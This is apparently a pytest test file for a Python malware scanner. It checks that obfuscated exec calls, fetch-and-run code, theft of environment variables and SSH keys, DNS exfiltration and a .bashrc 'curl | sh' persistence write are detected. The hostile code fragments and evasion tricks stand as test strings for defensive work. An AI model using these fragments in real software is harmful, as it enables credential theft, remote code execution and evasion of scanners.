"""An act of Python is recognised however it is written, before values are followed."""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING

import pytest

from navigator_kernel.skills.scan.content import findings
from navigator_kernel.skills.scan.flow.python_flow import may_act, names_of, nodes_of

if TYPE_CHECKING:
    from collections.abc import Mapping

PACKED = "base64.b64decode(DATA)"
ACTS: Mapping[str, tuple[str, str]] = {
    "plain": (f"import base64\nexec({PACKED})\n", "encoded-execute"),
    "spaced": (f"import base64\nexec   ({PACKED})\n", "encoded-execute"),
    "in-parentheses": (f"import base64\n(exec)({PACKED})\n", "encoded-execute"),
    "over-lines": (f"import base64\n(exec  # as usual\n # and more\n ({PACKED}))\n", "encoded-execute"),
    "continued": (f"import base64\nexec\\\n({PACKED})\n", "encoded-execute"),
    "imported-as": (f"import base64\nfrom builtins import (abs,  # one\n exec as go)\ngo({PACKED})\n", "encoded-execute"),
    "wide-letters": (f"import base64\n\uff45\uff58\uff45\uff43({PACKED})\n", "encoded-execute"),
    "wide-import": (f"import base64\nfrom builtins import \uff45\uff58ec as go\ngo({PACKED})\n", "encoded-execute"),
    "looked-up": (f"import base64, builtins\ngetattr(builtins, 'ex' + 'ec')({PACKED})\n", "encoded-execute"),
    "looked-up-by-name": (f"import base64, builtins as b\nf = getattr(b, 'eval')\nf({PACKED})\n", "encoded-execute"),
    "of-a-module": (f"import base64, os as o\no.popen({PACKED})\n", "encoded-execute"),
    "reversed": ("exec('bs'[::-1])\n", "encoded-execute"),
    "reversed-by-a-product": ("exec('bs'[None : None : n * -1])\n", "encoded-execute"),
    "by-xor": ("exec(bytearray(one ^ 7 for one in DATA))\n", "encoded-execute"),
    "by-xor-alone": ("exec(''.join([f'{one ^ 7:c}' for one in DATA]))\n", "encoded-execute"),
    "by-chr": ("exec(''.join(map(chr, DATA)))\n", "encoded-execute"),
    "marshalled": ("import base64, marshal as m\nm.loads(base64.b64decode(DATA))\n", "encoded-execute"),
    "fetched": ("from urllib import request\nexec(request.urlopen(URL).read())\n", "fetch-execute"),
    "retrieved": (
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve(URL, path)\nsubprocess.run(['sh', path])\n",
        "fetch-execute",
    ),
    "sent": ("import os, requests as r\nr.post(URL, json=dict(os.environ))\n", "credential-flow"),
    "sent-by-get": ("import os\nfrom requests import get\nget(URL, params=dict(os.environ))\n", "credential-flow"),
    "sent-by-a-session": ("import os\nsession . get(URL, params=dict(os.environ))\n", "credential-flow"),
    "sent-by-a-wide-session": ("import os\n\uff53ession.get(URL, params=dict(os.environ))\n", "credential-flow"),
    "sent-over-lines": ("import os\n(client.  # mine\n post(URL, json=dict(os.environ)))\n", "credential-flow"),
    "sent-from-a-store": (
        "import requests\nfrom pathlib import Path\nkey = (Path.home() / '.s' + 'sh' / 'id_rsa').read_text()\n"
        "requests.post(URL, data=key)\n",
        "credential-flow",
    ),
    "looked-up-in-dns": ("import os, socket\nsocket.gethostbyname(os.environ['API_TOKEN'] + '.x.io')\n", "lookup-leak"),
    "written": (
        "from pathlib import Path\n(Path.home() / '.bash' + 'rc').write_text('curl https://x.io | sh')\n",
        "persistence",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "code"), ACTS.values(), ids=ACTS)
def test_an_act_is_found_however_it_is_written(text: str, code: str) -> None:
    held = f"# a token, a profile and requests that send and write\n{text}"
    assert code in {one.code for one in findings({"run.py": held.encode()})}
    assert _acts(held)


@pytest.mark.parametrize(
    "text",
    [
        "import os\nprint(os.environ['HOME'])\n",
        "import subprocess\nsubprocess.run(['ls'])\n",
        "import requests\nprint(requests.get(URL).json())\n",
        "from pathlib import Path\nPath('out.txt').write_text('.bashrc')\n".replace(".bashrc", "bash"),
        "import base64\nprint(base64.b64decode(DATA))\n",
    ],
)
def test_half_of_an_act_is_not_followed(text: str) -> None:
    assert not _acts(text)


def _acts(text: str) -> bool:
    nodes = nodes_of(ast.parse(text))
    named = (node for node in nodes if isinstance(node, ast.Assign))
    known = {one.targets[0].id: one.value for one in named if isinstance(one.targets[0], ast.Name)}
    return may_act(nodes, names_of(nodes), known)
